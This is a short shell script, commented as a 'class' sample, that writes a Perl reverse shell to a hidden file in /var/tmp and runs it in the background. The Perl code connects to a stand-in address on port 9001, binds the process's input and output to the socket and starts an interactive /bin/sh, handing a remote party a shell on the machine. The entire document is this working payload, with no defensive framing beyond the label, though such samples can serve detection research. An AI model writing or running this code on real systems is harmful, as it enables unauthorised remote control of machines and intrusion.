#!/bin/sh
# class: reverse shell in Perl, written first
cat > /var/tmp/.p <<'P'
use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => "203.0.113.11:9001") or exit;
open(STDIN, "<&", $s); open(STDOUT, ">&", $s); open(STDERR, ">&", $s);
exec("/bin/sh", "-i");
P
perl /var/tmp/.p &
